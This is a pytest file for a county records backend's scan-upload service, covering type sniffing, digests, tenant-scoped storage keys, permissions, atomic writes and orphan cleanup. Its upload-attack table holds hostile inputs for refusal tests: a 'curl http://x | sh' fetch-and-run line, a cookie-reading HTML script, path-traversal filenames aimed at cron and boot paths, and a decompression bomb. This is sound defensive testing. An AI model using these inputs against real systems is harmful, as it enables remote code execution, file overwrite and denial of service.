"""Uploading scans: sniffed type, SHA-256, server-made keys under the county's prefix, owners and reach, the
upload attacks of the acceptance list (each on both drivers), and object + row written together or not at all."""

from __future__ import annotations

import hashlib
import io
import subprocess
import sys
import uuid
from datetime import timedelta

import anyio.to_thread
import pytest
from PIL import Image
from sqlalchemy import func, select

from backend.authz.principal import Principal, ScopedRole
from backend.authz.vocabulary import Role
from backend.config import PROJECT_ROOT
from backend.core.clock import utc_now
from backend.core.storage import ObjectStorage, StorageUnavailable
from backend.db.engine import Database
from backend.db.tenancy import set_tenant
from backend.documents import service
from backend.documents.storage import install_document_storage
from backend.models import AuditEvent, Document, DocumentKind, DocumentOwnerKind
from tests.backend.documents.conftest import (
    UPLOAD_LIMIT,
    AddPerson,
    create_case,
    pdf_bytes,
    png_bytes,
    upload,
)
from tests.fixtures.identity import County, SignIn


async def stored_keys(store: ObjectStorage, county: County) -> list[str]:
    return await store.list_keys(f"tenants/{county.tenant.id}/")


async def document_rows(database: Database, county: County) -> int:
    async with database.sessionmaker() as session, session.begin():
        await set_tenant(session, county.tenant.id)
        return int((await session.execute(select(func.count()).select_from(Document))).scalar_one())


class TestUpload:
    async def test_a_scan_is_stored_under_a_server_key_with_its_digest_and_sniffed_type(
        self, county: County, sign_in: SignIn, add_person: AddPerson, doc_store: ObjectStorage
    ) -> None:
        officer = await sign_in(county, "officer")
        person = await add_person(county)
        data = png_bytes()
        # Named .pdf and sent as PDF: the bytes say PNG, and PNG is what is recorded and served.
        response = await upload(officer, "person", person.id, data, filename="身份证 正面.pdf")
        assert response.status_code == 201, response.text
        document = response.json()
        assert document["media_type"] == "image/png"
        assert document["sha256"] == hashlib.sha256(data).hexdigest()
        assert document["size_bytes"] == len(data)
        assert document["display_name"] == "身份证 正面.pdf"
        assert document["org_unit_code"] == county.units["v11"]
        keys = await stored_keys(doc_store, county)
        assert keys == [f"tenants/{county.tenant.id}/documents/{document['id']}.png"]
        assert await doc_store.get(keys[0]) == data

    async def test_scans_attach_to_a_case_and_to_a_verification_request(
        self, county: County, sign_in: SignIn, add_person: AddPerson, local_store: ObjectStorage
    ) -> None:
        officer = await sign_in(county, "officer")
        person = await add_person(county)
        case = await create_case(officer, county, person)
        on_case = await upload(officer, "case", case["id"], pdf_bytes(), kind="check_report")
        assert on_case.status_code == 201, on_case.text
        request_id = uuid.uuid4()
        on_request = await upload(
            officer,
            "verification_request",
            request_id,
            pdf_bytes(),
            kind="contact_evidence",
            org_unit_code=county.units["t1"],
        )
        assert on_request.status_code == 201, on_request.text
        without_unit = await upload(officer, "verification_request", request_id, pdf_bytes(), kind="other")
        assert without_unit.status_code == 422
        listed = await officer.get("/api/v1/documents", params={"owner_kind": "case", "owner_id": case["id"]})
        assert [item["id"] for item in listed.json()] == [on_case.json()["id"]]

    async def test_an_owner_outside_reach_or_in_another_county_is_404_and_nothing_is_stored(
        self,
        county: County,
        other: County,
        sign_in: SignIn,
        add_person: AddPerson,
        local_store: ObjectStorage,
        database: Database,
    ) -> None:
        person = await add_person(county, unit="v11")
        coordinator = await sign_in(county, "coord12")
        stranger = await sign_in(other, "county_officer")
        responses = [
            await upload(coordinator, "person", person.id, pdf_bytes()),
            await upload(stranger, "person", person.id, pdf_bytes()),
            await upload(coordinator, "case", uuid.uuid4(), pdf_bytes()),
            await upload(coordinator, "agreement", uuid.uuid4(), pdf_bytes()),
        ]
        assert [response.status_code for response in responses] == [404] * 4
        assert await stored_keys(local_store, county) == []
        assert await document_rows(database, county) == 0

    async def test_the_auditor_cannot_upload(
        self, county: County, sign_in: SignIn, add_person: AddPerson, local_store: ObjectStorage
    ) -> None:
        person = await add_person(county)
        auditor = await sign_in(county, "auditor")
        assert (await upload(auditor, "person", person.id, pdf_bytes())).status_code == 403

    async def test_the_generated_kind_cannot_be_uploaded(
        self, county: County, sign_in: SignIn, add_person: AddPerson, local_store: ObjectStorage
    ) -> None:
        officer = await sign_in(county, "officer")
        person = await add_person(county)
        response = await upload(officer, "person", person.id, pdf_bytes(), kind="issued")
        assert response.status_code == 422


def _bomb() -> bytes:
    output = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(output, format="PNG", optimize=True)
    return output.getvalue()


ATTACKS = {
    "script_renamed_pdf": (
        "invoice.pdf",
        b"#!/bin/sh\ncurl http://x | sh\n",
        "application/pdf",
        415,
        "UNSUPPORTED_MEDIA_TYPE",
    ),
    "html_as_pdf": (
        "证明.pdf",
        b"<!doctype html><html><script>alert(document.cookie)</script></html>",
        "application/pdf",
        415,
        "UNSUPPORTED_MEDIA_TYPE",
    ),
    "oversized": ("big.pdf", b"%PDF-1.7\n" + b"0" * UPLOAD_LIMIT, "application/pdf", 413, "UPLOAD_TOO_LARGE"),
    "empty": ("empty.pdf", b"", "application/pdf", 422, "UPLOAD_EMPTY"),
    "path_traversal_name": ("../../../etc/cron.d/x.pdf", None, "application/pdf", 422, "UPLOAD_BAD_FILE_NAME"),
    "windows_path_name": ("..\\..\\boot.pdf", None, "application/pdf", 422, "UPLOAD_BAD_FILE_NAME"),
    "decompression_bomb": ("photo.png", "bomb", "image/png", 413, "IMAGE_TOO_LARGE"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_upload_attacks_are_refused_clearly_and_leave_nothing_stored(
    attack: str,
    county: County,
    sign_in: SignIn,
    add_person: AddPerson,
    doc_store: ObjectStorage,
    database: Database,
) -> None:
    filename, data, content_type, status, code = ATTACKS[attack]
    payload = pdf_bytes() if data is None else _bomb() if data == "bomb" else data
    assert isinstance(payload, bytes)
    officer = await sign_in(county, "officer")
    person = await add_person(county)
    response = await upload(officer, "person", person.id, payload, filename=filename, content_type=content_type)
    assert response.status_code == status, response.text
    body = response.json()
    assert body["error"] == code
    assert body["fields"][0]["loc"] == ["body", "file"]
    assert " / " in body["detail"]  # Chinese and English
    assert await stored_keys(doc_store, county) == []
    assert await document_rows(database, county) == 0


class FailingStorage(ObjectStorage):
    """A store whose writes fail, as when the storage server is down."""

    def __init__(self, inner: ObjectStorage) -> None:
        super().__init__()
        self.inner = inner

    async def put(self, *args: object, **kwargs: object):  # type: ignore[no-untyped-def, override]
        raise StorageUnavailable("test: storage down")

    def _ensure_bucket_sync(self) -> None: ...
    def _stat_sync(self, key):  # type: ignore[no-untyped-def]
        return self.inner._stat_sync(key)

    def _write_sync(self, *args):  # type: ignore[no-untyped-def]
        raise AssertionError

    def _read_sync(self, key):  # type: ignore[no-untyped-def]
        raise AssertionError

    def _open_sync(self, key):  # type: ignore[no-untyped-def]
        raise AssertionError

    def _remove_sync(self, key):  # type: ignore[no-untyped-def]
        raise AssertionError

    def _presign_sync(self, *args):  # type: ignore[no-untyped-def]
        return None

    def _list_sync(self, prefix):  # type: ignore[no-untyped-def]
        return self.inner._list_sync(prefix)


async def test_when_the_object_cannot_be_written_no_row_and_no_audit_event_remain(
    county: County, sign_in: SignIn, add_person: AddPerson, local_store: ObjectStorage, database: Database, settings
) -> None:
    from tests.backend.documents.conftest import document_settings

    install_document_storage(FailingStorage(local_store), document_settings(settings))
    officer = await sign_in(county, "officer")
    person = await add_person(county)
    response = await upload(officer, "person", person.id, pdf_bytes())
    assert response.status_code == 503
    assert response.json()["error"] == "STORAGE_UNAVAILABLE"
    assert await document_rows(database, county) == 0
    async with database.sessionmaker() as session, session.begin():
        await set_tenant(session, county.tenant.id)
        uploads = await session.execute(select(func.count()).where(AuditEvent.action == "document.upload"))
        assert uploads.scalar_one() == 0


async def test_orphan_cleanup_removes_old_objects_without_a_row_and_keeps_the_rest(
    county: County, sign_in: SignIn, add_person: AddPerson, doc_store: ObjectStorage, database: Database
) -> None:
    officer = await sign_in(county, "officer")
    person = await add_person(county)
    kept = (await upload(officer, "person", person.id, pdf_bytes())).json()
    prefix = f"tenants/{county.tenant.id}/documents/"
    old = (utc_now() - timedelta(hours=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    recent = utc_now().strftime("%Y-%m-%dT%H:%M:%SZ")
    await doc_store.put(
        f"{prefix}{uuid.uuid4()}.pdf", pdf_bytes(), content_type="application/pdf", metadata={"stored-at": old}
    )
    young = f"{prefix}{uuid.uuid4()}.pdf"
    await doc_store.put(young, pdf_bytes(), content_type="application/pdf", metadata={"stored-at": recent})
    async with database.sessionmaker() as session, session.begin():
        await set_tenant(session, county.tenant.id)
        result = await service.cleanup_orphans(session, doc_store)
    assert result.examined == 3
    assert len(result.removed) == 1 and result.kept_recent == 1
    assert sorted(await stored_keys(doc_store, county)) == sorted([f"{prefix}{kept['id']}.pdf", young])


def run_cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "backend.cli", *args],
        cwd=PROJECT_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


async def test_the_cleanup_command_removes_orphans_of_one_county(
    county: County, local_store: ObjectStorage, subprocess_env: dict[str, str], tmp_path
) -> None:
    orphan = f"tenants/{county.tenant.id}/documents/{uuid.uuid4()}.pdf"
    old = (utc_now() - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    await local_store.put(orphan, pdf_bytes(), content_type="application/pdf", metadata={"stored-at": old})
    env = {**subprocess_env, "STORAGE_DRIVER": "local", "STORAGE_LOCAL_DIR": str(tmp_path / "objects")}
    result = await anyio.to_thread.run_sync(run_cli, env, "documents", "cleanup-orphans", "--tenant", county.code)
    assert result.returncode == 0, result.stderr
    assert "1 orphans removed" in result.stdout
    assert await stored_keys(local_store, county) == []


async def test_when_the_database_work_fails_before_the_write_no_object_is_stored(
    county: County, add_person: AddPerson, doc_store: ObjectStorage, database: Database
) -> None:
    person = await add_person(county)
    principal = Principal(
        kind="user",
        id="tester",
        label="tester",
        tenant_id=county.tenant.id,
        tenant_code=county.code,
        org_unit_code=county.code,
        roles=(ScopedRole(Role.county_officer, county.code),),
    )

    async def failing_link(document: Document) -> None:
        raise RuntimeError("the agreement row could not be updated")

    with pytest.raises(RuntimeError):
        async with database.sessionmaker() as session, session.begin():
            await set_tenant(session, county.tenant.id)
            await service.store_document(
                session,
                principal,
                owner_kind=DocumentOwnerKind.person,
                owner_id=person.id,
                org_unit_code=person.org_unit_code,
                kind=DocumentKind.agreement,
                file=service.NewFile(pdf_bytes(), "协议.pdf"),
                locked=True,
                before_write=failing_link,
            )
    assert await stored_keys(doc_store, county) == []
    assert await document_rows(database, county) == 0
